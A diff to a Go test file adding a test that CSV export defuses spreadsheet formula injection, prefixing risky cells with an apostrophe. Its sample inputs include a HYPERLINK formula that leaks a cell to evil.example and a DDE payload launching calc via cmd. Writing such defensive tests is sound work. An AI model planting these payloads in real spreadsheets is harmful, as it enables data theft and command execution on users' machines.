@@ -11,6 +11,8 @@ import (
 	"time"
 
 	"golang.org/x/mod/sumdb/tlog"
+
+	"github.com/tvault/tvault/internal/csvsafe"
 )
 
 func TestExportRoundTrip(t *testing.T) {
@@ -294,5 +296,51 @@ func TestExportCSV(t *testing.T) {
 	l.ExportCSV(&buf, b, ExportOptions{Record: "r3"})
 	if !strings.Contains(buf.String(), "\"свідчення, \"\"цитата\"\"\nрядок\"") {
 		t.Errorf("CSV does not quote the detail as expected:\n%s", buf.String())
+	}
+}
+
+// TestExportCSVFormulas: a detail a spreadsheet would run as a formula
+// (=, +, -, @, tab, carriage return, their fullwidth forms) opens as text:
+// the cell gets one leading apostrophe, as does a detail that already
+// begins with one, and removing it gives the detail exactly.
+func TestExportCSVFormulas(t *testing.T) {
+	details := []string{
+		`=HYPERLINK("https://evil.example/?"&B2,"open")`,
+		"@SUM(A1:A9)",
+		"+cmd|' /C calc'!A0",
+		"-2+3",
+		"\t=1+1",
+		"＝1+1",
+		"'quoted",
+		"plain purpose",
+	}
+	l, b := New(testOrigin), NewMemBackend()
+	for i, d := range details {
+		a, e := testEntry(i)
+		e.Detail = d
+		if _, err := l.Append(b, a, e); err != nil {
+			t.Fatalf("Append %q: %v", d, err)
+		}
+	}
+	var buf bytes.Buffer
+	if _, err := l.ExportCSV(&buf, b, ExportOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, d := range details {
+		cell := rows[1+i][8]
+		want := "'" + d
+		if d == "plain purpose" {
+			want = d
+		}
+		if cell != want {
+			t.Errorf("detail %q written as %q, want %q", d, cell, want)
+		}
+		if got := csvsafe.Unescape(cell); got != d {
+			t.Errorf("Unescape(%q) = %q, want %q", cell, got, d)
+		}
 	}
 }
